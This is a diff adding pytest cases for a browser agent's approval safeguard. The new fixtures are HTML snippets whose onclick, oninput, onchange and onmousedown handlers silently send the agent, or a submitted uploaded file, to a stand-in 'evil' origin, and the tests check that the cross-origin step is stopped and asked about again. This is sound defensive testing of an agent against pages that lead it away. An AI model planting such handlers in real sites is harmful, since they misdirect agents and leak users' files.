@@ -414,6 +414,44 @@ async def test_a_link_that_changes_during_the_press_is_stopped(agent: Session, p
     assert sent(site) == []
 
 
+# Acts that show no form or link, or one that opens in another tab.
+LED_AWAY: dict[str, tuple[str, Callable[[Session], Awaitable[Any]]]] = {
+    "a button": ("<button id=b onclick=\"location = '{evil}'\">B</button>", lambda agent: agent.click("#b")),
+    "typing": ("<input id=b oninput=\"location = '{evil}'\">", lambda agent: agent.type("x", "#b")),
+    "an upload": (
+        "<form method=post enctype=multipart/form-data><input type=file name=f id=b "
+        "onchange=\"form.action = '{evil}'; form.submit()\"></form>",
+        lambda agent: agent.upload("#b", ("notes.txt",)),
+    ),
+    "Control": (
+        "<a id=b href=/sent onmousedown=\"this.href = '{evil}'\">B</a>",
+        lambda agent: agent.click("#b", modifiers=("Control",)),
+    ),
+    "the middle button": (
+        "<a id=b href=/sent onmousedown=\"this.href = '{evil}'\">B</a>",
+        lambda agent: agent.click("#b", button="middle"),
+    ),
+}
+
+
+@pytest.mark.parametrize("name", LED_AWAY)
+async def test_an_act_that_leads_to_another_origin_is_stopped_and_asked_about_again(
+    agent: Session, person: Person, site: Site, workspace: Path, name: str
+) -> None:
+    (workspace / "notes.txt").write_bytes(b"alpha")
+    html, act = LED_AWAY[name]
+
+    async def refuse_second(request: ApprovalRequest) -> ApprovalAnswer:
+        return ApprovalAnswer.ONCE if len(person.asked) == 1 else ApprovalAnswer.NO
+
+    person.before_answer = refuse_second
+    await agent.navigate(site.page("/", html.format(evil=elsewhere(site))))
+    with pytest.raises(Denied):
+        await act(agent)
+    assert [each.url for each in of_kind(person.asked[1], "went")] == [elsewhere(site)]
+    assert sent(site) == []
+
+
 async def test_a_yes_for_the_session_does_not_cover_another_destination(
     agent: Session, person: Person, site: Site
 ) -> None:
